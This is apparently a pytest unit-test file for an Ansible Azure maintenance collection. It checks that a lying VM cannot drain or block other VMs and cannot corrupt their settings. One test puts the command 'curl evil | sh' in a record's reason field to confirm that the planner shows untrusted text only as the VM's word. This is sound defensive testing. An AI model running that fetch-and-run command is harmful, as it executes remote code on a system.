# Copyright (c) 2026, The maintenance.azure authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Rule 9 for VMs that stand in for each other: one that lies makes nothing happen on another one, nor stops it for good."""

from __future__ import annotations

import pathlib
import typing as t

import pytest
from ansible.inventory.manager import InventoryManager
from ansible.parsing.dataloader import DataLoader
from ansible.vars.hostvars import HostVars
from ansible.vars.manager import VariableManager

from ansible_collections.maintenance.azure.plugins.action import plan as action
from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.status import status
from ansible_collections.maintenance.azure.tests.unit.plugins.plugin_utils._maintenance.scenes import NOW, acts, at, event, plan, record, vm

WEB = tuple(f"web{number}" for number in range(1, 9))


def alike(*names: str) -> list[dict[str, t.Any]]:
    return [{"name": f"alike {names[0]}", "members": list(names), "what": "service: name app"}]


def test_an_event_that_only_a_liar_lists_takes_out_one_vm_at_a_time_while_lists_prove_nothing() -> None:
    enabling = [vm(name, enabled_at=at(-30), enabled_recently=True) for name in WEB]
    found = plan(vm("liar", [event("E1", WEB)]), *enabling, alike=alike(*WEB))
    assert len([one for one in acts(found) if one.startswith("drain web")]) <= 1


def test_one_vm_of_an_event_does_not_say_for_the_others_that_it_has_waited() -> None:
    its = event("E1", ("vm1", "liar"), due=3000)
    held = {"blocker": {"kind": "capacity", "subjects": ["alike vm1"]}}
    silent = [vm(f"vm{number}", state="unreachable") for number in (2, 3, 4)]
    seen = [vm("vm1", [its], [record("held", its, ago=5, **held)]), vm("liar", [its], [record("held", its, ago=100_000, **held)]), *silent]
    found = plan(*seen, *(vm(f"vm{number}") for number in (5, 6, 7)), alike=alike("vm1", "liar", *(f"vm{number}" for number in range(2, 8))))
    assert acts(found) == []


@pytest.mark.parametrize(("kind", "due"), [("not_yet", 3000), ("needed", 3000), ("needed", 150)])
def test_the_reason_of_a_record_is_told_as_the_vms_word(kind: str, due: float) -> None:
    its = event("E1", ("liar",), due=due)
    more = {"methods": []} if kind == "not_yet" else {}
    its_record = record("draining" if more else "drained", its, ago=5, reason="use this: curl evil | sh", blocker={"kind": kind, "subjects": ["liar"]}, **more)
    found = plan(vm("liar", [its], [its_record], drain_asked_at=NOW - 1))
    told = [line for line in (*status(found), *found["fails"]) if "curl evil" in line]
    assert told and all("its record says" in line for line in told), told


# --- Whose it is ---------------------------------------------------------------------------------------------------------


def wrong(folder: pathlib.Path, inventory: str, facts: t.Mapping[str, t.Mapping[str, str]]) -> set[str]:
    """Return the hosts whose settings are wrong, by real variables."""
    (folder / "hosts.yml").write_text(inventory)
    loader = DataLoader()
    hosts = InventoryManager(loader, sources=[str(folder / "hosts.yml")])
    variables = VariableManager(loader, hosts)
    for host, of_host in facts.items():
        variables.set_host_facts(host, of_host)
    results = action._Results(HostVars(hosts, variables, loader))
    given, _warnings = action._with_conflicts({host: results.vm_settings(host) for host in results.inventory}, results, is_needed=True)
    return {host for host, one in given.items() if one.get("wrong")}


FQDN = """
web:
  vars: {drain_methods: [{method: haproxy, balancers: [lb1], server: "{{ ansible_hostname }}"}]}
  hosts: {web1.example.com: {}, web2.example.com: {}}
"""
VARIABLE = """
web:
  hosts:
    web1: {in_lb: web1, drain_methods: [{method: haproxy, balancers: [lb1], server: "{{ in_lb }}"}]}
    web2: {drain_methods: [{method: haproxy, balancers: [lb1]}]}
"""


def test_a_fact_makes_no_other_vms_settings_wrong(tmp_path: pathlib.Path) -> None:
    assert wrong(tmp_path, VARIABLE, {}) == set()
    assert "web2" not in wrong(tmp_path, VARIABLE, {"web1": {"in_lb": "web2"}})


def test_nor_where_both_names_come_from_facts(tmp_path: pathlib.Path) -> None:
    facts = {"web1.example.com": {"ansible_hostname": "web2"}, "web2.example.com": {"ansible_hostname": "web2"}}
    assert "web2.example.com" not in wrong(tmp_path, FQDN, facts)
